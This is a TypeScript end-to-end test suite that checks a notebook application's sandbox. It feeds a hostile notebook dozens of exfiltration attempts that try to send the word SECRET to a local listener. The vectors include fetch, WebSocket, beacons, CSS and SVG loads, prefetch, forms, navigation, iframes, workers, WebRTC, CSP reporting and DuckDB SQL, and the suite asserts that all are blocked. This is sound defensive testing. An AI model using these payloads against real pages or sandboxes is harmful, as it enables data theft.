import { createServer, type Server } from "node:net";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { notebookText, openApp, type App } from "../support/app.ts";

/**
 * What a hostile cell may try. Each attempt carries the word SECRET to a listening server on another port, or to
 * the page's own: neither may see it. Attempts may throw, reject or do nothing; none may get through.
 */
const attempts = (target: string, own: string): Record<string, string> => ({
  fetch: `fetch("${target}/fetch?SECRET", {mode: "no-cors"}).catch(String)`,
  "fetch own": `fetch("${own}/fetch?SECRET", {mode: "no-cors"}).catch(String)`,
  XHR: `{ const x = new XMLHttpRequest(); x.open("POST", "${target}/xhr?SECRET"); x.send("SECRET"); }`,
  "XHR own": `{ const x = new XMLHttpRequest(); x.open("POST", "${own}/xhr?SECRET"); x.send("SECRET"); }`,
  WebSocket: `new WebSocket("${target.replace("http", "ws")}/ws?SECRET")`,
  EventSource: `new EventSource("${target}/es?SECRET")`,
  sendBeacon: `navigator.sendBeacon("${target}/beacon?SECRET", "SECRET")`,
  "sendBeacon own": `navigator.sendBeacon("${own}/beacon?SECRET", "SECRET")`,
  image: `{ const i = new Image(); i.src = "${target}/image?SECRET"; document.body.append(i); }`,
  "image own": `{ const i = new Image(); i.src = "${own}/image?SECRET"; document.body.append(i); }`,
  srcset: `{ const d = document.createElement("div"); d.innerHTML = '<img srcset="${target}/srcset?SECRET 2x"><picture><source srcset="${target}/source?SECRET"><img></picture>'; document.body.append(d); }`,
  "CSS url": `{ const s = document.createElement("style"); s.textContent = 'body { background: url("${target}/css?SECRET") } @import url("${target}/import?SECRET"); @font-face { font-family: leak; src: url("${target}/font?SECRET") } p { font-family: leak }'; document.head.append(s); }`,
  "inline CSS url": `{ const d = document.createElement("p"); d.textContent = "leak"; d.style.backgroundImage = 'url("${own}/css?SECRET")'; document.body.append(d); }`,
  "SVG image": `{ const d = document.createElement("div"); d.innerHTML = '<svg><image href="${target}/svg?SECRET"/><use href="${target}/use?SECRET#a"/></svg>'; document.body.append(d); }`,
  media: `{ const d = document.createElement("div"); d.innerHTML = '<video src="${target}/video?SECRET" poster="${target}/poster?SECRET" autoplay></video><audio src="${target}/audio?SECRET" autoplay></audio><track src="${target}/track?SECRET">'; document.body.append(d); }`,
  object: `{ const d = document.createElement("div"); d.innerHTML = '<object data="${target}/object?SECRET"></object><embed src="${target}/embed?SECRET">'; document.body.append(d); }`,
  "link prefetch": `for (const rel of ["prefetch", "preload", "modulepreload", "stylesheet", "icon", "manifest", "prerender"]) { const l = document.createElement("link"); l.rel = rel; l.as = "fetch"; l.href = "${target}/link-" + rel + "?SECRET"; document.head.append(l); }`,
  "link prefetch own": `for (const rel of ["prefetch", "preload", "stylesheet"]) { const l = document.createElement("link"); l.rel = rel; l.as = "image"; l.href = "${own}/link-" + rel + "?SECRET"; document.head.append(l); }`,
  "speculation rules": `{ const s = document.createElement("script"); s.type = "speculationrules"; s.textContent = '{"prefetch":[{"urls":["${target}/speculation?SECRET"],"eagerness":"immediate"}]}'; document.head.append(s); }`,
  "form post": `{ const f = document.createElement("form"); f.method = "post"; f.action = "${target}/form?SECRET"; f.innerHTML = '<input name=a value=SECRET>'; document.body.append(f); f.submit(); }`,
  "form own": `{ const f = document.createElement("form"); f.action = "${own}/form"; f.innerHTML = '<input name=a value=SECRET>'; document.body.append(f); f.submit(); }`,
  "window.open": `open("${target}/open?SECRET")`,
  "link click": `{ const a = document.createElement("a"); a.href = "${target}/click?SECRET"; a.target = "_blank"; document.body.append(a); a.click(); }`,
  "link ping": `{ const a = document.createElement("a"); a.href = "#here"; a.ping = "${target}/ping?SECRET"; document.body.append(a); a.click(); }`,
  download: `{ const a = document.createElement("a"); a.href = "${target}/download?SECRET"; a.download = "x"; document.body.append(a); a.click(); }`,
  "download own": `{ const a = document.createElement("a"); a.href = "${own}/download?SECRET"; a.download = "x"; document.body.append(a); a.click(); }`,
  "top navigation": `top.location.href = "${target}/top?SECRET"`,
  "parent navigation": `parent.location = "${target}/parent?SECRET"`,
  "nested iframe": `{ const f = document.createElement("iframe"); f.src = "${target}/frame?SECRET"; document.body.append(f); }`,
  "nested srcdoc": `{ const f = document.createElement("iframe"); f.srcdoc = '<img src="${target}/srcdoc?SECRET"><meta http-equiv="refresh" content="0;url=${target}/srcdoc-refresh?SECRET"><link rel=stylesheet href="${target}/srcdoc-css?SECRET">'; document.body.append(f); }`,
  "nested own": `{ const f = document.createElement("iframe"); f.src = "${own}/frame?SECRET"; document.body.append(f); }`,
  "worker fetch": `new Worker(URL.createObjectURL(new Blob(['fetch("${target}/worker?SECRET", {mode: "no-cors"}).catch(() => {}); try { new WebSocket("${target.replace("http", "ws")}/worker-ws?SECRET") } catch {} try { new EventSource("${target}/worker-es?SECRET") } catch {} try { new WebTransport("${target.replace("http:", "https:")}/worker-wt?SECRET") } catch {}'])))`,
  "worker by address": `new Worker("${own}/worker.js?SECRET")`,
  importScripts: `new Worker(URL.createObjectURL(new Blob(['importScripts("${target}/scripts.js?SECRET")'])))`,
  "dynamic import": `import("${target}/module.js?SECRET").catch(String)`,
  "computed import": `import(["${target}", "/module2.js?SECRET"].join("")).catch(String)`,
  "computed import own": `import(["${own}", "/module3.js?SECRET"].join("")).catch(String)`,
  "script element": `{ const s = document.createElement("script"); s.src = "${target}/script.js?SECRET"; document.head.append(s); }`,
  WebRTC: `{ const C = globalThis.RTCPeerConnection ?? globalThis.webkitRTCPeerConnection; const c = new C({iceServers: [{urls: "stun:${new URL(target).host}", username: "SECRET", credential: "SECRET"}]}); c.createDataChannel("x"); c.createOffer().then((o) => c.setLocalDescription(o)); }`,
  "WebRTC of a nested frame": `{ const f = document.createElement("iframe"); document.body.append(f); const w = f.contentWindow; const C = w.RTCPeerConnection; const c = new C({iceServers: [{urls: "turn:${new URL(target).host}?transport=tcp", username: "SECRET", credential: "SECRET"}]}); c.createDataChannel("x"); c.createOffer().then((o) => c.setLocalDescription(o)); }`,
  WebTransport: `new WebTransport("${target.replace("http:", "https:")}/wt?SECRET")`,
  "web font": `new FontFace("leak2", 'url("${target}/fontface?SECRET")').load().catch(String)`,
  eval: `{ const e = eval; e("fetch('${target}/eval?SECRET')"); }`,
  "inline handler": `{ const d = document.createElement("div"); d.innerHTML = '<img src=x onerror="new Image().src=\\'${target}/handler?SECRET\\'">'; document.body.append(d); }`,
  "computed FileAttachment": `FileAttachment(["${own}", "/file?SECRET"].join("")).text().catch(String)`,
  "computed relative FileAttachment": `FileAttachment(["computed", "SECRET.csv"].join("-")).text().catch(String)`,
  storage: `localStorage.setItem("SECRET", "1")`,
  indexedDB: `new Promise((resolve) => { const r = indexedDB.open("SECRET"); r.onsuccess = () => resolve("opened"); r.onerror = () => resolve("refused"); })`,
  "parent document": `parent.document.title = "SECRET"`,
  "service worker": `navigator.serviceWorker.register("/sw.js?SECRET")`,
  "payment and credentials": `navigator.credentials?.get({identity: {providers: [{configURL: "${target}/fedcm?SECRET", clientId: "SECRET"}]}}).catch(String)`,
  "report-to": `{ const m = document.createElement("meta"); m.httpEquiv = "Content-Security-Policy"; m.content = "img-src 'none'; report-uri ${target}/report?SECRET"; document.head.append(m); const i = new Image(); i.src = "data:,x"; document.body.append(i); }`,
});

/** Attempts that would end the stage where they got through: each in a notebook of its own. */
const departures = (target: string, own: string): Record<string, string> => ({
  "self navigation": `location.href = "${target}/self?SECRET"`,
  "self navigation own": `location.href = "${own}/self?SECRET"`,
  "meta refresh": `{ const m = document.createElement("meta"); m.httpEquiv = "refresh"; m.content = "0;url=${target}/refresh?SECRET"; document.head.append(m); }`,
  "base and link": `{ const b = document.createElement("base"); b.href = "${target}/"; document.head.append(b); const a = document.createElement("a"); a.href = "base?SECRET"; document.body.append(a); a.click(); }`,
  "javascript address": `location.href = "javascript:fetch('${target}/js?SECRET')"`,
  history: `history.pushState({}, "", "${own}/history?SECRET"), location.reload()`,
});

const queries = (target: string): string[] => [
  `SELECT * FROM read_csv('${target}/sql.csv?SECRET')`,
  `SELECT * FROM '${target}/sql2.csv?SECRET'`,
  `SELECT * FROM read_text('${target}/sql3?SECRET')`,
  `COPY (SELECT 'SECRET' AS a) TO '${target}/copy.csv'`,
  `ATTACH '${target}/attach.db?SECRET' AS leak`,
  `INSTALL httpfs FROM '${target}/ext?SECRET'`,
  `LOAD '${target}/load.wasm?SECRET'`,
  `SELECT * FROM read_parquet('${target}/sql.parquet?SECRET')`,
  `SET custom_extension_repository = '${target}/SECRET'`,
];

let app: App;
let listener: Server;
let target: string;
const heard: string[] = [];

beforeAll(async () => {
  app = await openApp();
  listener = createServer((socket) => {
    socket.on("data", (data) => heard.push(data.toString("latin1").split("\r\n")[0]));
    socket.on("error", () => undefined);
  });
  await new Promise<void>((resolve) => listener.listen(0, "127.0.0.1", resolve));
  target = `http://127.0.0.1:${(listener.address() as { port: number }).port}`;
});

afterAll(async () => {
  await app.close();
  listener.close();
});

/**
 * What either server has seen: any byte on the foreign port, the secret on our own. A browser may open a bare
 * connection for a navigation that the policy then refuses (DECISIONS.md); no request is made on it.
 */
function leaks(): string[] {
  return [
    ...heard,
    ...app.server.requests.map((r) => r.url).filter((url) => url.includes("SECRET")),
  ];
}

describe("a hostile notebook", () => {
  it("reaches no server from a cell", async () => {
    const all = attempts(target, app.server.origin);
    const path = app.put("attempts.html", notebookText("Attempts", Object.values(all)));
    await app.open(path);
    const cells = await app.settled(60_000);
    expect(cells).toHaveLength(Object.keys(all).length);
    await app.page.waitForTimeout(3000);
    expect(leaks()).toEqual([]);
    expect(app.page.url()).toContain(app.server.origin);
    expect(await app.page.title()).not.toContain("SECRET");
    const names = Object.keys(all);
    for (const refused of [
      "storage",
      "parent document",
      "top navigation",
      "parent navigation",
      "eval",
    ])
      expect(cells[names.indexOf(refused)].state, refused).toBe("rejected");
    expect(cells[names.indexOf("indexedDB")].text).not.toContain("opened");
  });

  it("reaches no server by leaving", async () => {
    for (const [name, code] of Object.entries(departures(target, app.server.origin))) {
      await app.open(app.put(`${name.replace(/\W/g, "-")}.html`, notebookText(name, [code])));
      await app.page.waitForTimeout(1500);
      expect(leaks(), name).toEqual([]);
    }
  });

  it("reaches no server from SQL", async () => {
    const cells = [
      "const db = DuckDBClient.of({})",
      ...queries(target).map(
        (sql) =>
          `db.query(${JSON.stringify(sql)}).then(() => "reached", (e) => "refused: " + e.message)`,
      ),
      `vg.coordinator().exec(vg.loadParquet("t", "${target}/vg.parquet?SECRET")).then(() => "reached", (e) => "refused: " + e.message)`,
      "db.query(\"SET VARIABLE d = 'SECRET'\").then(() => db.query(\"SELECT * FROM read_csv('" +
        target +
        "/var?d=' || getvariable('d'))\")).then(() => 'reached', (e) => 'refused: ' + e.message)",
    ];
    await app.open(app.put("sql.html", notebookText("SQL", cells)));
    const outcomes = await app.settled(60_000);
    expect(leaks()).toEqual([]);
    for (const cell of outcomes.slice(1)) expect(cell.text).toContain("refused: ");
  });

  it("sees only the files that its text names, fetched before any cell and without query", async () => {
    app.put("named.csv", "a,b\n1,2\n");
    app.put("other.csv", "a,b\n3,4\n");
    const before = app.server.requests.length;
    await app.open(
      app.put(
        "files.html",
        notebookText("Files", [
          'FileAttachment("named.csv").text()',
          'FileAttachment("named.csv").text()',
          'FileAttachment("oth" + "er.csv").text().catch((e) => "refused: " + e.message)',
          'FileAttachment("named.csv?d=" + 1).text().catch((e) => "refused: " + e.message)',
        ]),
      ),
    );
    const cells = await app.settled();
    expect(cells[0].text).toContain("a,b");
    const asked = app.server.requests.slice(before).map((r) => r.url);
    expect(asked.filter((url) => url.includes("named.csv"))).toEqual(["/test/named.csv"]);
    expect(asked.some((url) => url.includes("other.csv"))).toBe(false);
    expect(cells[2].state === "rejected" || cells[2].text.includes("refused")).toBe(true);
  });
});
